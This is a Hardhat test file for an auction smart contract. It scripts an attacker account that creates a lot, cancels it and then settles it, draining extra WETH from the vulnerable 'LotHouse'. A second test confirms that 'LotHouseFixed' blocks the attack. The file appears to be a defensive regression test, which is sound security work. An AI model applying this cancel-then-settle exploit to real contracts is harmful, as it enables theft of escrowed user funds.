import { expect } from "chai";
import { network } from "hardhat";
import { parseEther } from "viem";

const usdc = (amount: number) => BigInt(amount) * 10n ** 6n;
const DAY = 86_400n;

async function attack(name: "LotHouse" | "LotHouseFixed") {
  const { viem } = await network.create();
  const clock = await viem.getTestClient();
  const [, alice, carol, mallory] = await viem.getWalletClients();
  const weth = await viem.deployContract("LotHouseToken", ["Wrapped Ether", "WETH", 18]);
  const money = await viem.deployContract("LotHouseToken", ["USD Coin", "USDC", 6]);
  const house = await viem.deployContract(name, [weth.address, money.address]);
  await weth.write.mint([alice.account.address, parseEther("620")]);
  await weth.write.approve([house.address, parseEther("620")], { account: alice.account });
  await house.write.create([parseEther("620"), usdc(1_400_000), 3n * DAY], { account: alice.account });
  await money.write.mint([carol.account.address, usdc(900_000)]);
  await money.write.approve([house.address, usdc(900_000)], { account: carol.account });
  await house.write.bid([0n, usdc(900_000)], { account: carol.account });
  expect(await house.read.invariant_custody()).to.equal(true);

  const { account } = mallory;
  await weth.write.mint([account.address, parseEther("150")]);
  await weth.write.approve([house.address, parseEther("150")], { account });
  await house.write.create([parseEther("150"), usdc(400_000), 3_600n], { account });
  await house.write.cancel([1n], { account });
  await clock.increaseTime({ seconds: 3_600 });
  await house.write.settle([1n], { account }).catch(() => undefined);
  return { custody: await house.read.invariant_custody(), owns: await weth.read.balanceOf([account.address]) };
}

describe("LotHouse", () => {
  it("breaks", async () => {
    expect(await attack("LotHouse")).to.deep.equal({ custody: false, owns: parseEther("300") });
  });

  it("holds once fixed", async () => {
    expect(await attack("LotHouseFixed")).to.deep.equal({ custody: true, owns: parseEther("150") });
  });
});
